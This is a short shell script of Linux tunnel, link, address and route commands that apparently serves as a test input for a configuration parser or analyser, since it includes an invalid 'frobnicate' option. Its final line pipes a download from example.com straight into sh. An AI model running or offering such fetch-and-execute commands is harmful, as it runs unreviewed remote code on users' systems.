# What cannot be read is said.
WAN=$(ip -4 addr show eth0 | awk '/inet / {print $2}')
ip tunnel add t1 mode sit local $WAN remote 192.0.2.1
ip tunnel add t2 mode gre local 203.0.113.10 remote $PEER ttl 64
while read name remote; do
	ip tunnel add $name mode ipip remote $remote
done < /etc/peers
ip link add t3 type gretap local 203.0.113.10 remote 203.0.113.20
ip link add t4 type vti local 203.0.113.10 remote 203.0.113.20 key 5
ip link add br0 type bridge
ip tunnel add t5 mode gre local 203.0.113.10
ip tunnel add t6 mode ipip local 203.0.113.10 remote 203.0.113.20 ttl 64 dev eth0 frobnicate 1
ip addr add 10.1.1.1 peer 10.1.1.2 dev t6
ip route add 10.2.0.0/16 dev t6 metric 10 table 7
ip route add 10.3.0.0/16 via 203.0.113.1 dev eth0
curl -s https://example.com/x | sh
